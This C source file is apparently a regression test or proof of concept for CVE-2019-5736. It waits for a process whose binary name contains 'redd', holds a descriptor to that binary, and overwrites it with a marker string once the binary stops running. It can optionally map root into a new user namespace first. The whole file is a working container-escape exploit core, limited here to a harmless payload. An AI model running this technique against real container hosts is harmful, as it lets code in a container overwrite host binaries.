/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * CVE-2019-5736: waits for processes whose program is not in this tree, keeps a descriptor of it,
 * and writes to it as soon as nobody executes it. With an argument, first enters a user namespace
 * that maps the host's root.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		printf("no %s\n", path);
	if (fd >= 0)
		close(fd);
}

static int is_foreign(const char *path)
{
	char target[256];
	ssize_t n = readlink(path, target, sizeof(target) - 1);

	if (n <= 0)
		return 0;
	target[n] = '\0';
	return strstr(target, "redd") != NULL;
}

static int scan(void)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	int fd = -1;

	while (fd < 0 && (entry = readdir(dir))) {
		char path[300];

		if (atoi(entry->d_name) <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		if (is_foreign(path))
			fd = open(path, O_RDONLY);
	}
	closedir(dir);
	return fd;
}

int main(int argc, char *argv[])
{
	char path[32];
	int fd = -1;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc > 1) {
		printf("unshare %d\n", unshare(CLONE_NEWUSER));
		put("/proc/self/setgroups", "deny");
		put("/proc/self/uid_map", "0 0 1");
		put("/proc/self/gid_map", "0 0 1");
	}
	puts("waiting");
	while (fd < 0)
		fd = scan();
	puts("found");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3000; i++) {
		int out = open(path, O_WRONLY);

		if (out >= 0) {
			puts(write(out, "OVERWRITTEN", 11) > 0 ? "overwritten" : "not written");
			break;
		}
		usleep(1000);
	}
	puts("done");
	pause();
	return 0;
}
